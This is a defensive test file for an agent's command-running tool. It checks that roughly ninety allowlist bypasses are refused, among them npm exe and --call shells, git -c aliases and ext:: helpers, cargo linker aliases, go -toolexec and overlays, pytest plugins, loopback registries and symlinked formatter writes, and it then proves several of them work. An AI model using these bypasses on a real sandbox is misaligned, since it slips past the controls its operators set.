// One-call bypasses of runCommand's rules, each a way to make an allowlisted tool run a second
// program, install from outside the workspace or reach a loopback service, set up so that it
// really would: scripts and hooks that leave a marker file, a loopback server that counts what
// reaches it, a file outside the workspace a write would create or a formatter would rewrite
// through a link. Every attempt goes to runCommand and to runInTerminal; each must be refused with
// a reason naming what it was, nothing may be spawned, no marker may appear and the server may see
// no request. The last part runs a sample of the same command lines directly, without the bridge,
// and sees their markers appear: the table is made of attacks that work.
import { execFile } from "node:child_process";
import { existsSync } from "node:fs";
import { chmod, copyFile, mkdir, mkdtemp, readdir, readFile, realpath, rm, symlink, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createNodeRuntime } from "../../../runtime/node.ts";
import { nodeWhich } from "../../../runtime/shared/spawn.ts";
import type { Runtime } from "../../../src/ports/runtime.ts";
import { npmTarball } from "../../helpers/npm-tarball.ts";
import { dispatcher } from "../../helpers/tool-dispatch.ts";

const run = promisify(execFile);

let base: string;
let ws: string;
let out: string;
let bin: string;
let markers: string;
let server: Server;
let port: number;
let hits: string[] = [];
let spawned: string[] = [];

function env(): Record<string, string | undefined> {
  const real = createNodeRuntime().env;
  // EDITOR is what `npm edit` and `git commit` open: a marker if anything opens it.
  return { ...real, PATH: `${bin}:${real.PATH ?? ""}`, EDITOR: join(ws, "tools", "mark"), VISUAL: join(ws, "tools", "mark") };
}

function testRuntime(): Runtime {
  const real = createNodeRuntime();
  const e = env();
  return {
    ...real,
    env: e,
    which: (cmd) => nodeWhich(cmd, e),
    spawn(cmd, args, opts) {
      spawned.push([cmd, ...args].join(" "));
      return real.spawn(cmd, args, opts);
    },
  };
}

async function script(path: string, body: string): Promise<void> {
  await writeFile(path, `#!/bin/sh\n${body}\n`);
  await chmod(path, 0o755);
}

async function git(cwd: string, ...args: string[]): Promise<void> {
  await run("git", ["-c", "user.email=t@t", "-c", "user.name=t", "-c", "init.defaultBranch=main", ...args], { cwd });
}

/** A package.json whose every install-time script leaves a marker named after `tag`. */
function evilPackage(name: string, tag: string): string {
  const touch = `touch ${markers}/${tag}`;
  return JSON.stringify({ name, version: "1.0.0", scripts: { preinstall: touch, install: touch, postinstall: touch, prepare: touch } });
}

beforeAll(async () => {
  base = await realpath(await mkdtemp(join(tmpdir(), "cib-bypass-")));
  ws = join(base, "ws");
  out = join(base, "outside");
  bin = join(base, "bin");
  markers = join(ws, "markers");
  for (const dir of [ws, out, bin, markers, join(ws, "tools"), join(ws, "src"), join(ws, ".cargo"), join(ws, "tpl", "hooks")])
    await mkdir(dir, { recursive: true });
  // A marker a program leaves when anything runs it.
  await script(join(ws, "tools", "mark"), `touch ${markers}/mark-$$; exit 1`);
  // An external cargo subcommand on PATH, and a toolchain directory inside the workspace.
  await script(join(bin, "cargo-evil"), `touch ${markers}/cargo-evil`);
  await mkdir(join(ws, "tc", "bin"), { recursive: true });
  await script(join(ws, "tc", "bin", "cargo"), `touch ${markers}/toolchain`);

  // The workspace: a package, a crate, a Go module, TypeScript, a git repository with a hook.
  await writeFile(join(ws, "package.json"), JSON.stringify({ name: "ws", version: "1.0.0", scripts: { build: "true" } }));
  await writeFile(join(ws, "Cargo.toml"), '[package]\nname = "ws"\nversion = "0.1.0"\nedition = "2021"\n');
  await writeFile(join(ws, "src", "main.rs"), "fn main() {}\n");
  await writeFile(join(ws, "rustc-args.txt"), `-Clinker=${join(ws, "tools", "mark")}\n`);
  await writeFile(
    join(ws, ".cargo", "config.toml"),
    [
      "[alias]",
      `lk = "rustc -- -C linker=${join(ws, "tools", "mark")}"`,
      'ev = ["evil"]',
      'chain = "lk"',
      `inst = "install --path ${out}/crate"`,
    ].join("\n"),
  );
  await writeFile(join(ws, "go.mod"), "module example.com/ws\n\ngo 1.19\n");
  await writeFile(join(ws, "main.go"), "package main\n\nfunc main() {}\n");
  await writeFile(join(ws, "ov.json"), JSON.stringify({ Replace: { [join(ws, "main.go")]: join(out, "evil.go") } }));
  await writeFile(join(ws, "a.ts"), "export const a = 1;\n");
  await writeFile(join(ws, "tsc-args.txt"), `a.ts --outDir ${join(out, "tsout")}\n`);
  await script(join(ws, "tpl", "hooks", "post-checkout"), `touch ${markers}/template-hook`);
  await git(ws, "init", "-q");
  await git(ws, "add", "package.json");
  await git(ws, "commit", "-qm", "init");
  await script(join(ws, ".git", "hooks", "pre-commit"), `touch ${markers}/hook-run`);

  // Outside: a git repository and a directory with install scripts, a crate whose build script
  // leaves a marker, a Go file that would replace the workspace's, and links to them from inside.
  await mkdir(join(out, "repo"));
  await writeFile(join(out, "repo", "package.json"), evilPackage("evil-git", "npm-git"));
  await git(join(out, "repo"), "init", "-q");
  await git(join(out, "repo"), "add", ".");
  await git(join(out, "repo"), "commit", "-qm", "evil");
  await mkdir(join(out, "pkg"));
  await writeFile(join(out, "pkg", "package.json"), evilPackage("evil-dir", "npm-dir"));
  await mkdir(join(out, "crate", "src"), { recursive: true });
  await writeFile(join(out, "crate", "Cargo.toml"), '[package]\nname = "evil"\nversion = "0.1.0"\nedition = "2021"\nbuild = "build.rs"\n');
  await writeFile(join(out, "crate", "build.rs"), `fn main() { std::fs::write("${markers}/build-rs", "").unwrap(); }\n`);
  await writeFile(join(out, "crate", "src", "main.rs"), "fn main() {}\n");
  await writeFile(join(out, "evil.go"), `package main\n\nimport "os"\n\nfunc main() { os.WriteFile("${markers}/overlay", nil, 0o644) }\n`);
  await symlink(join(out, "pkg"), join(ws, "link-pkg"));
  await symlink(join(out, "crate"), join(ws, "link-crate"));
  await symlink(out, join(ws, "link-out"));
  // A source file that is a link to a file outside: a formatter rewrites it there.
  await writeFile(join(out, "fmt.js"), "const   a =  1\n");
  await symlink(join(out, "fmt.js"), join(ws, "src", "fmt.js"));
  await writeFile(join(out, "fmtlink.go"), "package main\n\nfunc  helper()  {}\n");
  await symlink(join(out, "fmtlink.go"), join(ws, "fmtlink.go"));

  // A loopback server standing in for a registry, a tarball host and a git remote: it counts hits.
  const tarball = npmTarball({ "package.json": evilPackage("evil-remote", "npm-remote") });
  server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    if (req.url?.endsWith(".tgz") === true) res.end(tarball);
    else
      res.writeHead(200, { "content-type": "application/json" }).end(
        JSON.stringify({
          name: "evil-remote",
          "dist-tags": { latest: "1.0.0" },
          versions: { "1.0.0": { name: "evil-remote", version: "1.0.0", dist: { tarball: `http://127.0.0.1:${port}/x.tgz` } } },
        }),
      );
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  port = (server.address() as AddressInfo).port;

  // Project config files naming loopback registries and proxies, a program, a pytest plugin; each
  // in a folder of its own (a tool reads the one of its directory and the parents').
  const L = local();
  const configs: Record<string, string> = {
    "npmrc-reg/.npmrc": `registry=${L}/\n`,
    "npmrc-scoped/.npmrc": `@evil:registry=http://127.1:${port}/\n`,
    "npmrc-proxy/.npmrc": `https-proxy=http://localhost:${port}/\nproxy=http://localhost:${port}/\n`,
    "npmrc-git/.npmrc": `git=${mark()}\n`,
    "cargo-reg/.cargo/config.toml": `[registries.evil]\nindex = "sparse+${L}/"\n[source.crates-io]\nreplace-with = "evil-src"\n[source.evil-src]\nregistry = "sparse+${L}/"\n`,
    "cargo-proxy/.cargo/config.toml": `[http]\nproxy = "127.0.0.1:${port}"\n`,
    "pyini/pytest.ini": "[pytest]\naddopts = -p evilplug\n",
    "pyproj/pyproject.toml": '[tool.pytest.ini_options]\naddopts = [\n  "-v",\n  "-p", "evilplug",\n]\n',
    "pytox/tox.ini": "[pytest]\naddopts =\n    -v\n    -pevilplug\n",
  };
  for (const [path, text] of Object.entries(configs)) {
    await mkdir(join(ws, path, ".."), { recursive: true });
    await writeFile(join(ws, path), text);
  }
  for (const dir of ["npmrc-reg", "npmrc-scoped", "npmrc-proxy", "npmrc-git"])
    await writeFile(join(ws, dir, "package.json"), JSON.stringify({ name: dir, version: "1.0.0", dependencies: { lodash: "*" } }));
  // A module that leaves a marker when imported: what `-p evilplug` loads.
  for (const dir of ["", "pyini", "pyproj", "pytox"])
    await writeFile(join(ws, dir, "evilplug.py"), `open(${JSON.stringify(`${markers}/pytest-plugin`)}, "w")\n`);
}, 120_000);

afterAll(async () => {
  await new Promise((resolve) => server.close(resolve));
  await rm(base, { recursive: true, force: true });
});

const M = (tag: string) => `touch ${markers}/${tag}`;
const mark = () => join(ws, "tools", "mark");
const local = () => `http://127.0.0.1:${port}`;

/** [label, runCommand arguments, what the refusal must say]. */
function attempts(): [string, { command: string; args: string[]; cwd?: string }, RegExp][] {
  const L = local();
  return [
    // npm: its own aliases and prefixes, flag values read as commands
    ["npm exe (prefix of exec)", { command: "npm", args: ["exe", "--yes", "--", "sh", "-c", M("1")] }, /npm exec/],
    ["npm exe, no --yes", { command: "npm", args: ["exe", "--", "sh", "-c", M("2")] }, /npm exec/],
    ["npm exe after a flag value", { command: "npm", args: ["--loglevel", "ls", "exe", "--", "sh", "-c", M("3")] }, /npm exec/],
    ["npm exe after -w .", { command: "npm", args: ["-w", ".", "exe", "--", "sh", "-c", M("4")] }, /npm exec/],
    ["npm explo (prefix of explore)", { command: "npm", args: ["explo", "x", "--", "sh", "-c", M("5")] }, /opens a shell/],
    ["npm edi (prefix of edit)", { command: "npm", args: ["edi", "lodash"] }, /opens an editor/],
    ["npm x", { command: "npm", args: ["x", "--", "sh", "-c", M("7")] }, /npm exec/],
    ["npm --call", { command: "npm", args: ["exec", `--call=${M("8")}`] }, /npm exec|--call/],
    ["npm -c clustered", { command: "npm", args: ["-yc", M("9"), "exec"] }, /-c|npm exec/],
    // npm: installs from git, URLs and paths outside
    ["npm install git+file", { command: "npm", args: ["install", `git+file://${out}/repo`] }, /git dependency/],
    ["npm i git+file", { command: "npm", args: ["i", `git+file://${out}/repo`] }, /git dependency/],
    ["npm add git+file", { command: "npm", args: ["add", `git+file://${out}/repo`] }, /git dependency/],
    ["npm isntall (typo alias) git+file", { command: "npm", args: ["isntall", `git+file://${out}/repo`] }, /git dependency/],
    ["npm install-te (prefix) git+file", { command: "npm", args: ["install-te", `git+file://${out}/repo`] }, /git dependency/],
    ["npm i name@git+file", { command: "npm", args: ["i", `evil@git+file://${out}/repo`] }, /git dependency/],
    ["npm pack git+file", { command: "npm", args: ["pack", `git+file://${out}/repo`] }, /git dependency/],
    ["npm cache add git+file", { command: "npm", args: ["cache", "add", `git+file://${out}/repo`] }, /git dependency/],
    ["npm i tarball URL", { command: "npm", args: ["install", `${L}/x.tgz`] }, /from a URL/],
    ["npm i name@tarball URL", { command: "npm", args: ["i", `evil@${L}/x.tgz`] }, /from a URL/],
    ["npm i ../outside", { command: "npm", args: ["i", "../outside/pkg"] }, /outside the workspace/],
    ["npm i file:../outside", { command: "npm", args: ["i", "file:../outside/pkg"] }, /outside the workspace/],
    ["npm i name@file:../outside", { command: "npm", args: ["i", "evil@file:../outside/pkg"] }, /outside the workspace/],
    ["npm i name@../outside", { command: "npm", args: ["i", "evil@../outside/pkg"] }, /outside the workspace/],
    ["npm i link to outside", { command: "npm", args: ["i", "./link-pkg"] }, /leads outside the workspace/],
    ["npm i file:link to outside", { command: "npm", args: ["i", "file:link-pkg"] }, /leads outside the workspace/],
    ["npm --prefix link to outside", { command: "npm", args: ["--prefix", "link-out", "i", "lodash"] }, /leads outside the workspace/],
    // npm: registries and proxies on loopback
    ["npm i --registry loopback", { command: "npm", args: ["i", "evil-remote", `--registry=${L}/`] }, /connect to 127\.0\.0\.1/],
    // A bare flag's value cannot be told from a package argument: read as both, refused as either.
    [
      "npm view --registry loopback",
      { command: "npm", args: ["view", "evil-remote", "--registry", `${L}/`] },
      /connect to 127\.0\.0\.1|from a URL/,
    ],
    ["npm --reg shorthand", { command: "npm", args: ["--reg", `${L}/`, "i", "evil-remote"] }, /connect to 127\.0\.0\.1/],
    ["npm --regis prefix", { command: "npm", args: ["i", "evil-remote", `--regis=${L}/`] }, /connect to 127\.0\.0\.1/],
    ["npm scoped registry", { command: "npm", args: ["i", "@evil/remote", `--@evil:registry=${L}/`] }, /connect to 127\.0\.0\.1/],
    ["npm --proxy loopback", { command: "npm", args: ["i", "lodash", `--proxy=${L}/`] }, /connect to 127\.0\.0\.1/],
    ["npm registry as 127.1", { command: "npm", args: ["i", "evil-remote", `--registry=http://127.1:${port}/`] }, /connect to 127\.1/],
    [
      "npm registry named localhost",
      { command: "npm", args: ["i", "evil-remote", `--registry=http://localhost:${port}/`] },
      /connect to localhost/,
    ],
    // git: config on the command line, hooks, helpers, loopback remotes
    ["git -c alias", { command: "git", args: ["-c", `alias.x=!${M("30")}`, "x"] }, /-c/],
    ["git -c core.sshCommand", { command: "git", args: ["-c", `core.sshCommand=${M("31")}`, "ls-remote", "ssh://h/r"] }, /-c/],
    ["git --config-env alias", { command: "git", args: ["--config-env=alias.x=EDITOR", "x"] }, /config-env/],
    ["git clone --template hooks", { command: "git", args: ["clone", `--template=${join(ws, "tpl")}`, ".", "sub/clone"] }, /--template/],
    ["git clone --templ (prefix)", { command: "git", args: ["clone", `--templ=${join(ws, "tpl")}`, ".", "sub/clone2"] }, /--template/],
    ["git hook run", { command: "git", args: ["hook", "run", "pre-commit"] }, /hook/],
    ["git remote helper ext::", { command: "git", args: ["ls-remote", `ext::sh -c ${M("36")}`] }, /remote helper/],
    ["git remote helper EXT:: in caps", { command: "git", args: ["ls-remote", `EXT::sh -c ${M("37")}`] }, /remote helper/],
    ["git ls-remote loopback", { command: "git", args: ["ls-remote", `${L}/repo.git`] }, /connect to 127\.0\.0\.1/],
    ["git clone loopback", { command: "git", args: ["clone", `${L}/repo.git`, "sub/c3"] }, /connect to 127\.0\.0\.1/],
    ["git fetch localhost", { command: "git", args: ["fetch", `http://localhost:${port}/repo.git`] }, /connect to localhost/],
    [
      "git remote add loopback",
      { command: "git", args: ["remote", "add", "evil", `http://[::ffff:127.0.0.1]:${port}/r.git`] },
      /connect to/,
    ],
    ["git submodule add loopback", { command: "git", args: ["submodule", "add", `${L}/r.git`, "sub/m"] }, /connect to 127\.0\.0\.1/],
    ["git archive --remote loopback", { command: "git", args: ["archive", `--remote=${L}/r.git`, "HEAD"] }, /connect to 127\.0\.0\.1/],
    ["git clone of a link to outside", { command: "git", args: ["clone", "link-out/repo", "sub/c4"] }, /leads outside the workspace/],
    // cargo: compiler arguments after "--", aliases, toolchains, externals, config
    ["cargo rustc -C linker", { command: "cargo", args: ["rustc", "--", "-C", `linker=${mark()}`] }, /linker/],
    ["cargo rustc -Clinker attached", { command: "cargo", args: ["rustc", "--", `-Clinker=${mark()}`] }, /linker/],
    ["cargo rustc --codegen linker", { command: "cargo", args: ["rustc", "--", "--codegen", `linker=${mark()}`] }, /linker/],
    [
      "cargo rustc link-arg -wrapper",
      { command: "cargo", args: ["rustc", "--", "-C", "link-arg=-wrapper", "-C", `link-arg=${mark()}`] },
      /link-arg/,
    ],
    ["cargo rustc @response file", { command: "cargo", args: ["rustc", "--", "@rustc-args.txt"] }, /more arguments from a file/],
    ["cargo rustdoc -Z runtool", { command: "cargo", args: ["rustdoc", "--", "-Zunstable-options", `--runtool=${mark()}`] }, /unstable/],
    ["cargo project alias to rustc -C linker", { command: "cargo", args: ["lk"] }, /linker/],
    ["cargo alias of an alias", { command: "cargo", args: ["chain"] }, /linker/],
    ["cargo alias to an external", { command: "cargo", args: ["ev"] }, /cargo-evil/],
    ["cargo alias to install outside", { command: "cargo", args: ["inst"] }, /cargo install/],
    ["cargo external subcommand", { command: "cargo", args: ["evil"] }, /cargo-evil/],
    ["cargo toolchain path", { command: "cargo", args: [`+${join(ws, "tc")}`, "build"] }, /toolchain by its path/],
    [
      "cargo b --config linker",
      { command: "cargo", args: ["b", "--config", `target.x86_64-unknown-linux-gnu.linker="${mark()}"`] },
      /--config/,
    ],
    ["cargo --manifest-path outside", { command: "cargo", args: ["build", "--manifest-path", `${out}/crate/Cargo.toml`] }, /outside/],
    ["cargo --manifest-path link", { command: "cargo", args: ["build", "--manifest-path", "link-crate/Cargo.toml"] }, /leads outside/],
    ["cargo add --git loopback", { command: "cargo", args: ["add", "evil", "--git", `${L}/r.git`] }, /connect to 127\.0\.0\.1/],
    ["cargo search --index loopback", { command: "cargo", args: ["search", "x", "--index", `sparse+${L}/`] }, /connect to 127\.0\.0\.1/],
    // go: programs named in flags, linker flags, overlays
    ["go build -toolexec", { command: "go", args: ["build", `-toolexec=${mark()}`, "."] }, /toolexec/],
    ["go run -exec", { command: "go", args: ["run", "-exec", mark(), "."] }, /-exec/],
    ["go test --exec", { command: "go", args: ["test", `--exec=${mark()}`, "."] }, /-exec/],
    ["go vet -vettool", { command: "go", args: ["vet", `-vettool=${mark()}`, "."] }, /vettool/],
    ["go build -extld", { command: "go", args: ["build", "-ldflags", `-linkmode=external -extld=${mark()}`, "."] }, /extld/],
    [
      "go build -extldflags -B",
      { command: "go", args: ["build", `-ldflags=-linkmode=external -extldflags=-B${ws}/tools`, "."] },
      /C compiler or linker/,
    ],
    ["go run -overlay outside", { command: "go", args: ["run", "-overlay=ov.json", "."] }, /overlay/],
    ["go tool", { command: "go", args: ["tool", "-n", "compile"] }, /go tool/],
    // tsc: a response file writing outside
    ["tsc @args writing outside", { command: "tsc", args: ["@tsc-args.txt"] }, /outside the workspace/],
    // project config files: registries and proxies on loopback, programs, plugins
    [
      "npm registry in .npmrc",
      { command: "npm", args: ["view", "evil-remote"], cwd: "npmrc-reg" },
      /\.npmrc sets `registry`.*connect to 127\.0\.0\.1/,
    ],
    ["npm scoped registry in .npmrc", { command: "npm", args: ["i", "@evil/remote"], cwd: "npmrc-scoped" }, /\.npmrc.*connect to 127\.1/],
    ["npm proxy in .npmrc", { command: "npm", args: ["install"], cwd: "npmrc-proxy" }, /\.npmrc.*proxy.*connect to localhost/],
    ["npm git program in .npmrc", { command: "npm", args: ["install"], cwd: "npmrc-git" }, /\.npmrc sets `git`/],
    [
      "cargo registry in .cargo/config.toml",
      { command: "cargo", args: ["fetch"], cwd: "cargo-reg" },
      /config\.toml.*connect to 127\.0\.0\.1/,
    ],
    [
      "cargo proxy in .cargo/config.toml",
      { command: "cargo", args: ["fetch"], cwd: "cargo-proxy" },
      /config\.toml sets `proxy`.*127\.0\.0\.1/,
    ],
    ["pytest -p plugin", { command: "pytest", args: ["-p", "evilplug"] }, /-p evilplug/],
    ["pytest -pplugin attached", { command: "pytest", args: ["-pevilplug"] }, /-p evilplug/],
    ["pytest -p in a cluster", { command: "pytest", args: ["-vxp", "evilplug"] }, /-p evilplug/],
    ["pytest -p in pytest.ini addopts", { command: "pytest", args: [], cwd: "pyini" }, /addopts of .*pytest\.ini/],
    ["pytest -p in pyproject.toml addopts", { command: "pytest", args: [], cwd: "pyproj" }, /addopts of .*pyproject\.toml/],
    ["pytest -p in tox.ini addopts", { command: "pytest", args: ["-q"], cwd: "pytox" }, /addopts of .*tox\.ini/],
    // formatters and fixers rewriting through a link to outside
    ["biome format --write through a link", { command: "biome", args: ["format", "--write", "src"] }, /symbolic link to/],
    ["biome check --write through a link", { command: "biome", args: ["check", "--write"] }, /symbolic link to/],
    ["eslint --fix through a link", { command: "eslint", args: ["--fix", "src"] }, /symbolic link to/],
    ["go fmt through a link", { command: "go", args: ["fmt", "./..."] }, /symbolic link to/],
    ["cargo fmt through a link", { command: "cargo", args: ["fmt"] }, /symbolic link to/],
  ];
}

describe("runCommand and runInTerminal refuse one-call bypasses", () => {
  for (const tool of ["runCommand", "runInTerminal"]) {
    it(`${tool}: refuses every attempt with its reason, runs nothing, reaches nothing`, async () => {
      const d = await dispatcher(ws, { runtime: testRuntime(), settings: { allowCommands: [] } });
      spawned = [];
      hits = [];
      const table = attempts();
      expect(table.length).toBeGreaterThanOrEqual(60);
      const wrong: string[] = [];
      for (const [label, args, reason] of table) {
        const failure = await d.failure(tool, args);
        if (failure.code !== "command_refused" || !reason.test(failure.error)) wrong.push(`${label}: [${failure.code}] ${failure.error}`);
      }
      expect(wrong).toEqual([]);
      expect(spawned).toEqual([]);
      expect(hits).toEqual([]);
      expect(await readdir(markers)).toEqual([]);
      expect(existsSync(join(out, "tsout"))).toBe(false);
      expect(await readFile(join(out, "fmt.js"), "utf8")).toBe("const   a =  1\n");
      expect(await readFile(join(out, "fmtlink.go"), "utf8")).toBe("package main\n\nfunc  helper()  {}\n");
    });
  }

  it("still runs what these rules must not stop", async () => {
    const d = await dispatcher(ws, { runtime: testRuntime() });
    spawned = [];
    for (const args of [
      { command: "npm", args: ["run", "build"] },
      { command: "git", args: ["log", "--oneline", "-1"] },
      { command: "git", args: ["commit", "--allow-empty", "--no-verify", "-qm", "see http://127.0.0.1:8080/ and a/../b"] },
      { command: "go", args: ["vet", "."] },
      { command: "npm", args: ["pkg", "get", "name"] },
    ]) {
      const text = await d.text("runCommand", args);
      expect(text, JSON.stringify(args)).toMatch(/exit 0/);
    }
    // Each git command is preceded by the git runner's read of the repository's config, which runs nothing.
    expect(spawned.filter((line) => !line.includes(" config --list --show-scope"))).toHaveLength(5);
  });
});

describe("interpreters copied into the project under a tool's name", () => {
  /** [tool name it poses as, the interpreter's real binary, code that would leave a marker, why refused]. */
  async function copies(): Promise<[string, string, string[], RegExp][]> {
    // python3 on PATH may be a shim (pyenv): ask python itself where its binary is.
    const { stdout } = await run("python3", ["-c", "import os, sys; print(os.path.realpath(sys.executable))"]);
    return [
      // Not on PATH as itself when python3 is a shim: only its content tells what it is. Under a
      // shim's child (pyenv puts the version's bin/ first on PATH) it is, and is named as a copy.
      ["vitest", stdout.trim(), ["-c", `open('${markers}/python-copy', 'w')`], /Python|libpython.*by its content|copy of .*\(python\)/],
      ["jest", "/bin/bash", ["-c", M("bash-copy")], /copy of|interpreter or shell/],
      ["tsc", await realpath("/bin/sh"), ["-c", M("sh-copy")], /copy of|interpreter or shell/],
    ];
  }

  it("are refused for what they are, not for their name or path", async () => {
    const dotBin = join(ws, "node_modules", ".bin");
    await mkdir(dotBin, { recursive: true });
    const table = await copies();
    for (const [name, real] of table) {
      await copyFile(real, join(dotBin, name));
      await chmod(join(dotBin, name), 0o755);
    }
    const d = await dispatcher(ws, { runtime: testRuntime() });
    spawned = [];
    for (const [name, , args, why] of table) {
      const failure = await d.failure("runCommand", { command: name, args });
      expect(failure.error, name).toMatch(why);
    }
    expect(spawned).toEqual([]);
    expect(await readdir(markers)).toEqual([]);
    // The python copy is live: run directly, it runs the code it is given.
    const [, , pythonArgs] = table[0] ?? [];
    await run(join(dotBin, "vitest"), pythonArgs ?? []);
    expect(await readdir(markers)).toContain("python-copy");
    await rm(join(markers, "python-copy"));
    await rm(join(ws, "node_modules"), { recursive: true });
  });
});

describe("the attempts are real: run directly, without the bridge, they leave their marker", () => {
  const direct = (cmd: string, args: string[]) =>
    run(cmd, args, { cwd: ws, env: env() as NodeJS.ProcessEnv, timeout: 180_000 }).catch((err: unknown) => err);

  it("npm exe runs a shell", { timeout: 200_000 }, async () => {
    await direct("npm", ["exe", "--yes", "--", "sh", "-c", M("live-npm-exe")]);
    expect(await readdir(markers)).toContain("live-npm-exe");
  });

  it("npm install git+file runs the outside repository's scripts", { timeout: 200_000 }, async () => {
    await direct("npm", ["install", "--no-audit", "--no-fund", "--offline", "--no-save", `git+file://${out}/repo`]);
    expect(await readdir(markers)).toContain("npm-git");
  });

  it("npm install of a tarball from a loopback URL runs its scripts", { timeout: 200_000 }, async () => {
    hits = [];
    await direct("npm", ["install", "--no-audit", "--no-fund", "--no-save", `${local()}/x.tgz`]);
    expect(hits).toContain("GET /x.tgz");
    expect(await readdir(markers)).toContain("npm-remote");
  });

  it("git clone --template runs the template's hook", { timeout: 200_000 }, async () => {
    await direct("git", ["clone", `--template=${join(ws, "tpl")}`, ".", join(base, "clone-live")]);
    expect(await readdir(markers)).toContain("template-hook");
  });

  it("cargo's project alias runs the linker it names", { timeout: 200_000 }, async () => {
    await direct("cargo", ["lk"]);
    expect((await readdir(markers)).some((m) => m.startsWith("mark-"))).toBe(true);
  });

  it("biome format --write rewrites the file outside through the link", { timeout: 200_000 }, async () => {
    const biome = fileURLToPath(new URL("../../../node_modules/.bin/biome", import.meta.url));
    await direct(biome, ["format", "--write", "src/fmt.js"]);
    expect(await readFile(join(out, "fmt.js"), "utf8")).toBe("const a = 1;\n");
  });

  it("go fmt rewrites the Go file outside through the link", { timeout: 200_000 }, async () => {
    await direct("go", ["fmt", "./..."]);
    expect(await readFile(join(out, "fmtlink.go"), "utf8")).toBe("package main\n\nfunc helper() {}\n");
  });

  it("npm reads the registry a project's .npmrc names", { timeout: 200_000 }, async () => {
    hits = [];
    await run("npm", ["view", "evil-remote"], { cwd: join(ws, "npmrc-reg"), env: env() as NodeJS.ProcessEnv, timeout: 180_000 }).catch(
      () => {},
    );
    expect(hits.length).toBeGreaterThan(0);
  });

  it("pytest imports the module that -p names in a project's addopts", { timeout: 200_000 }, async () => {
    await run("python3", ["-m", "pytest", "--co", "-q"], {
      cwd: join(ws, "pyini"),
      env: env() as NodeJS.ProcessEnv,
      timeout: 180_000,
    }).catch(() => {});
    expect(await readdir(markers)).toContain("pytest-plugin");
  });

  it("go run -overlay runs the outside file", { timeout: 200_000 }, async () => {
    await direct("go", ["run", "-overlay=ov.json", "."]);
    expect(await readdir(markers)).toContain("overlay");
  });
});
